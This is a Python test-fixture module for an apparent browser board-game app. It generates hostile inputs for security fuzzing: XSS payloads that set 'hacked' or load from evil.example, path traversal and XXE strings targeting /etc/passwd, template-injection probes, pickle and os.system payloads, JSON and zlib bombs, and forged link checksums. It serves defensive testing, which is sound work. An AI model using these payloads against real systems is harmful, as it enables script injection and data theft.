"""What somebody could write where a name, a link, a number or a file belongs.

``TEXTS`` are texts by family, ``EVERY`` all of them in a row (more than 200, none twice). Code in them sets
``window.hacked``, and addresses in them lead to ``evil.example``: a page on which ``hacked`` is undefined and that sent
no request out has read them as text. Made from something real: ``links(link)`` by what is wrong with them,
``fragments(link, text)``, ``files(save, text)``; and ``MONSTERS``, JSON that is large, deep or odd.
"""

from __future__ import annotations

import copy
import json
import zlib
from base64 import b64encode, urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Iterator
from itertools import islice
from typing import Any
from urllib.parse import quote

RUN = "hacked=1"

TEXTS: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script>",
        f"<<script>{RUN}//<</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"</script><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</template><script>{RUN}</script>",
        f"</noscript><img src=x onerror={RUN}>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<![CDATA[><img src=x onerror={RUN}>]]>",
        f"<?xml version='1.0'?><script>{RUN}</script>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>import '//evil.example/x.js'</script>",
        "<script type=py>import js; js.hacked = 1</script>",
        "<py-script>import js; js.hacked = 1</py-script>",
        f"<template><script>{RUN}</script></template>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "<iframe src=//evil.example></iframe>",
        f"<object data='data:text/html,<script>{RUN}</script>'></object>",
        "<embed src=//evil.example>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><button autofocus>x</button></form>",
        "<input type=image src=//evil.example/x.png>",
        "<b>bold</b>",
        "<plaintext>",
        "<textarea>",
        "<dialog open>x</dialog>",
        "<div id=app></div>",
        "<a name=ostraka id=ostraka>clobber</a>",
        "<img name=trustedTypes><img name=location>",
        "]]><x>",
        "<",
        ">",
        "<>",
        "</",
        "<x",
    ),
    "svg": (
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{RUN}>",
        f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
        "<svg><use href='//evil.example/x.svg#x'/></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/></svg>",
        "<svg><image href=//evil.example/x.png /></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        "<svg><style>@import '//evil.example/x.css'</style></svg>",
        f"</text></svg><img src=x onerror={RUN}>",
        f"</g></svg><script>{RUN}</script><svg><g>",
        f"<math><mtext><script>{RUN}</script></mtext></math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
        f"<svg><title><img src=x onerror={RUN}></title></svg>",
        f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    ),
    "attributes": (
        f'" onmouseover="{RUN}',
        f"' onmouseover='{RUN}",
        f"` onmouseover=`{RUN}",
        f'" autofocus onfocus="{RUN}',
        f"' autofocus onfocus='{RUN}",
        f'"><img src=x onerror={RUN}>',
        f"'><img src=x onerror={RUN}>",
        f'"/><script>{RUN}</script>',
        f'" style="animation-name:x" onanimationstart="{RUN}',
        f'" onclick={RUN} x="',
        '" data-do="delete x',
        '" data-do="go //evil.example" x="',
        '" id="app" x="',
        '" class="scrim',
        '" href="//evil.example',
        f'" srcdoc="<script>{RUN}</script>',
        '" inert="',
        '"',
        "'",
        '"\'"',
        "=",
        "x y=z",
    ),
    "events": (
        f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'>",
        "<img src=x:x onerror=&#x68;acked=1>",
        f"<img/src=x/onerror={RUN}>",
        f"<img\tsrc=x\tonerror={RUN}>",
        f"<body onload={RUN}>",
        f"<body onhashchange={RUN}>",
        f"<details open ontoggle={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<audio src=x onerror={RUN}>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}>",
        f"<marquee onstart={RUN}>",
        f"<p style=animation-name:x onanimationstart={RUN}>",
        f"<button popovertarget=x onbeforetoggle={RUN}>",
        f"<x tabindex=1 onfocusin={RUN} autofocus>",
        f"<b onpointerenter={RUN}>x",
    ),
    "addresses": (
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f" javascript:{RUN}",
        f"java\nscript:{RUN}",
        f"java\tscript:{RUN}",
        f"\x01javascript:{RUN}",
        f"javascript://evil.example/%0A{RUN}",
        f"&#106;avascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        "data:text/html;base64," + b64encode(f"<script>{RUN}</script>".encode()).decode(),
        f"data:text/javascript,{RUN}",
        f"data:image/svg+xml,<svg onload={RUN}>",
        f"vbscript:{RUN}",
        "blob:null/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "///evil.example/x",
        "\\\\evil.example\\x",
        "https://evil.example/#/game/x",
        "https://table.example@evil.example/",
        f"#javascript:{RUN}",
        f"<a href=javascript:{RUN}>x</a>",
        f"[x](javascript:{RUN})",
        "![x](https://evil.example/x.png)",
    ),
    "encodings": (
        "&lt;script&gt;hacked=1&lt;/script&gt;",
        "&amp;lt;script&amp;gt;",
        "&#60;script&#62;hacked=1&#60;/script&#62;",
        "&#x3c;img src=x onerror=hacked=1&#x3e;",
        "&lt",
        "&#0;",
        "&#xD800;",
        "&#x110000;",
        "&#38;#60;",
        "&quot; onclick=&quot;hacked=1",
        "& & &&",
        "%3Cscript%3Ehacked=1%3C/script%3E",
        "%253Cscript%253Ehacked=1%253C/script%253E",
        "%u003Cscript%u003E",
        "%00",
        "%0d%0aSet-Cookie:%20x=y",
        "%",
        "%zz",
        "%c0%bc",
        "%ff%fe",
        "\\u003cscript\\u003ehacked=1\\u003c/script\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-hacked=1+ADw-/script+AD4-",
        "¼script¾hacked=1¼/script¾",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
    ),
    "templates": (
        "{name} {0} {n!r}",
        "{}{{}}",
        "{0.__class__}",
        "{0.__class__.__mro__[1].__subclasses__}",
        "{name.__init__.__globals__}",
        "{n:>999999999}",
        "{n!x}",
        "{",
        "}",
        "{{",
        "%s%s%s%n",
        "%(x)s %d %",
        "%999999999d",
        "$" + "{hacked=1}",
        "`$" + "{hacked=1}`",
        "{{constructor.constructor('hacked=1')()}}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{% import os %}",
        "*{7*7}",
        "@import 'x'",
        "__import__('js').hacked",
        "\\g<0> \\1",
        "$& $1 $`",
    ),
    "unicode": (
        "\u202egnp.exe",
        "\u2066\u202eabc\u2069",
        "a\u200bb\u200cc\u200dd\ufeff",
        "\u2028\u2029",
        "\x00",
        "a\x00b",
        "\x00\x01\x1b[31m\x7f\x9b",
        "\r\n\t\v\f",
        "\x85\xa0\u3000",
        "\ud800 half a pair",
        "half a pair \udc00",
        "\udc00\ud800",
        "\ufffe\uffff\ufdd0",
        "\U0010ffff",
        "\U000e0001\U000e0041",
        "\uff1cscript\uff1ehacked=1\uff1c/script\uff1e",
        "\ufe64script\ufe65",
        "\u2039script\u203a",
        "\u212a\u017f\u0130\u0131\ufb03",
        "e\u0301 \u00e9 \u1e9b\u0323",
        "Z" + "\u0300" * 300,
        "\ufdfa" * 20,
        "\u05e9\u05dc\u05d5\u05dd 1,2:3",
        "\u0627\u0644\u0639 <b>",
        "\u3164\u115f\u2800",
        "\u0660\u0661\u0662\u0663",
        "\u00b2\u00bd\u2460",
        "Zoë 🏛️ ローマ",
        "👨‍👩‍👧‍👦" * 10,
        "\ue000\uf8ff",
        "\u1680\u180e\u2000",
    ),
    "css": (
        "red;background:url(//evil.example/x)",
        "}</style><script>hacked=1</script>",
        "}*{display:none}",
        "expression(hacked=1)",
        "url('javascript:hacked=1')",
        "@import url(//evil.example/x.css);",
        "/*",
        "*/",
        "\\3c script\\3e",
        "--w:1px;position:fixed;inset:0",
        "translate(9e99px) !important",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<p style=background:url(//evil.example/x)>",
    ),
    "ids": (
        "../../etc/passwd",
        "..%2f..%2fsettings",
        "../settings",
        "/",
        "//",
        ".",
        "..",
        "con",
        "a/b",
        "C:\\x",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "__class__",
        "__init__",
        "__globals__",
        "do_delete",
        "_to_home",
        "None",
        "null",
        "undefined",
        "NaN",
        "true",
        "self",
        "ostraka/1/settings",
        "ostraka/1/game/",
        "imperium",
        "consul:Caesar",
        "1:Caesar,2:Brutus",
        "a,b;c:d=e&f#g?h/i\\j",
        "&p=&s=1&n=x",
        "menu save-x",
        "delete x",
        "  spaces  ",
        " ",
        "",
        "x" * 5000,
        "-",
    ),
    "numbers": (
        "-1",
        "1e999",
        "1.5",
        "0x10",
        "Infinity",
        "-0",
        "1_000",
        "9" * 20,
        "9" * 5000,
        "18446744073709551616",
        "9007199254740993",
        "٣",
        "²",
        "+1",
        "1,000",
        "0" * 400 + "1",
    ),
}

EVERY: tuple[str, ...] = tuple(text for family in TEXTS.values() for text in family)

NAMES = ("<script>alert(1)</script>",) + tuple(family[i] for family in TEXTS.values() for i in (0, len(family) // 2))
"""Two of each family, for tests that take long."""

MONSTERS: dict[str, str] = {
    "nothing": "",
    "deep lists": "[" * 100_000,
    "deep lists, closed": "[" * 5000 + "]" * 5000,
    "deep objects": '{"a":' * 20_000,
    "depth in texts": '["]",' * 20_000,
    "many lists": "[" + "[]," * 60_000 + "[]]",
    "huge integer": '{"seats":' + "9" * 100_000 + "}",
    "huge exponent": '{"seats":1e999999999}',
    "tiny exponent": '{"seats":1e-999999999}',
    "no number": '{"seats":NaN,"state":Infinity}',
    "keys twice": '{"format":1,"format":2,"id":"a","id":"b"}',
    "prototype": '{"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}',
    "huge text": json.dumps({"name": "x" * 900_000}),
    "huge key": json.dumps({"x" * 150_000: 1}),
    "many keys": json.dumps({str(i): i for i in range(15_000)}),
    "half pairs": '{"\\ud800":"\\udfff"}',
    "controls": '{"\\u0000":"\\u001b[31m"}',
    "cut text": '{"name":"\\',
    "text without end": '"' + '\\"' * 90_000,
    "no JSON": "<html><script>hacked=1</script></html>",
    "order mark": '\ufeff{"format":1}',
    "a number": "7",
    "a text": '"text"',
    "a list": "[]",
    "null": "null",
    "true": "true",
    "an object": "{}",
    "comments": '{/*x*/"format":1}',
    "single quotes": "{'format':1}",
    "code": "__import__('os').system('x')",
    "pickle": "cos\nsystem\n(S'x'\ntR.",
    "zip": "PK\x03\x04" + "\x00" * 60,
    "yaml": "&a [*a,*a]",
}


def links(link: str) -> dict[str, str]:
    """A real link, damaged, forged and disguised: none of them is it."""
    game, _, code = link.partition(".")
    data = _bytes(code)
    body = data[:-4]
    return {
        "cut": link[: len(link) // 2],
        "cut by one": link[:-1],
        "one more": link + "A",
        "twice": link + link,
        "another game": f"atlantis.{code}",
        "no game": f".{code}",
        "dots": f"{game}..{code}",
        "traversal": f"../{game}.{code}",
        "prototype": _forged("__proto__", data[:-4]),
        "package": _forged("__init__", data[:-4]),
        "module": _forged("engine", data[:-4]),
        "capitals": f"{game.upper()}.{code}",
        "small letters": f"{game}.{code.lower()}" if code != code.lower() else f"{game}.a",
        "padding": f"{link}==",
        "standard alphabet": f"{game}.{b64encode(bytes([251, 239, 255]) + data).decode()}",
        "spaces": " ".join(link),
        "line break": f"{link[:20]}\n{link[20:]}",
        "zero width": f"{link[:20]}\u200b{link[20:]}",
        "wide letters": "".join(chr(ord(sign) + 0xFEE0) if sign.isalnum() else sign for sign in link),
        "escapes": "".join(f"%{ord(sign):02x}" for sign in link),
        "wrong check": f"{game}.{_text(body + bytes(4))}",
        "newer version": _forged(game, bytes([4]) + data[1:-4]),
        "other revision": _forged(game, _made(99, 0, None, b"\x01")),
        "huge revision": _forged(game, _made((1 << 69) - 1, 0, None, b"\x01")),
        "huge seed": _forged(game, _made(1, (1 << 69) - 1, None, b"\x01")),
        "endless number": _forged(game, bytes([2]) + b"\xff" * 40),
        "no choices": _forged(game, _made(1, 0, None, b"")),
        "ends too early": _forged(game, _made(1, 0, None, b"\x01")),
        "giant radix": _forged(game, _made(1, 0, None, b"\xff" * 14_000)),
        "zeros": _forged(game, _made(1, 0, None, b"\x01" + bytes(9000) + b"\x01")),
        "too long": f"{game}.{'A' * 20_001}",
        "much too long": f"{game}.{'A' * 3_000_000}",
        "bomb": _forged(game, _made(1, 0, b" " * 12_000_000, b"\x01")),
        "deep position": _forged(game, _made(1, 0, b"[" * 60_000, b"\x01")),
        "many lists": _forged(game, _made(1, 0, b"[" + b"[]," * 20_000 + b"[]]", b"\x01")),
        "text without end": _forged(game, _made(1, 0, b'"' + b'\\"' * 8000, b"\x01")),
        "huge number in a position": _forged(game, _made(1, 0, b'{"seats":' + b"9" * 60_000 + b"}", b"\x01")),
        "no text": _forged(game, _made(1, 0, b"\xff\xfe", b"\x01")),
        "markup in a position": _forged(game, _made(1, 0, b'{"<img src=x onerror=hacked=1>":1}', b"\x01")),
        "hostile phase": _forged(
            game, _made(1, 0, json.dumps({"seats": 2, "state": {"phase": "<b>{0.__class__}"}}).encode(), b"\x01")
        ),
    }


def _bytes(code: str) -> bytes:
    return urlsafe_b64decode(code + "=" * (-len(code) % 4))


def _text(data: bytes) -> str:
    return urlsafe_b64encode(data).decode().rstrip("=")


def _varint(value: int) -> bytes:
    return bytes([value & 0x7F | 0x80]) + _varint(value >> 7) if value >= 0x80 else bytes([value])


def _made(revision: int, seed: int, position: bytes | None, number: bytes) -> bytes:
    """All of a link but its check sum, whatever is in it."""
    body = _varint(revision) + _varint(seed)
    if position is not None:
        packed = zlib.compress(position, 9)
        body += _varint(len(packed)) + packed
    body += number
    return bytes([3 if position is not None else 2]) + _varint(len(body) + 4) + body


def _forged(game: str, made: bytes) -> str:
    """A link whose check sum fits."""
    return f"{game}.{_text(made + zlib.crc32(game.encode() + made).to_bytes(4, 'little'))}"


def fragments(link: str, text: str) -> list[str]:
    """Addresses, after the #, with a text in every place of them."""
    sure = quote(text, safe="", errors="replace")
    return [
        text,
        f"/{text}",
        f"/game/{text}",
        f"/game/{sure}/at/{sure}",
        f"/game/x/{text}",
        f"/new/{text}",
        f"/rules/{text}",
        f"/{text}/imperium",
        f"p={text}",
        f"p={sure}&s={sure}&n={sure}",
        f"p={link}{text}",
        f"p={link}&s={text}&n={text},{text}",
        f"p={link}&s=1&n={sure},1:{sure}",
        f"p={link}&{text}={text}",
    ]


def files(save: dict[str, Any], text: str, first: int = 0, step: int = 1) -> Iterator[tuple[str, str]]:
    """A saved game with a text in one of its places, as JSON, each with the name of the place: of all that there are
    every ``step``-th from the ``first``."""
    for holder, key, name, as_key in islice(_changes(save), first % step, None, step):
        changed = copy.deepcopy(save)
        place = changed
        for part in holder:
            place = place[part]
        place[key] = text
        if as_key:
            place[text] = place.pop(key)
        yield name, json.dumps(changed)


def _changes(save: dict[str, Any]) -> Iterator[tuple[tuple[Any, ...], Any, str, bool]]:
    """Where a text can be, as ``_places`` tells it, and whether it is the key there too."""
    for holder, key, name in _places(save, "save"):
        yield holder, key, name, False
        if isinstance(key, str):
            yield holder, key, f"the key of {name}", True


def _places(data: Any, name: str, holder: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any, str]]:
    """Every place of JSON-able data: the way to what holds it, its key there, its name."""
    if isinstance(data, list | dict):
        for key in data if isinstance(data, dict) else range(len(data)):
            yield holder, key, f"{name}.{key}"
            yield from _places(data[key], f"{name}.{key}", (*holder, key))
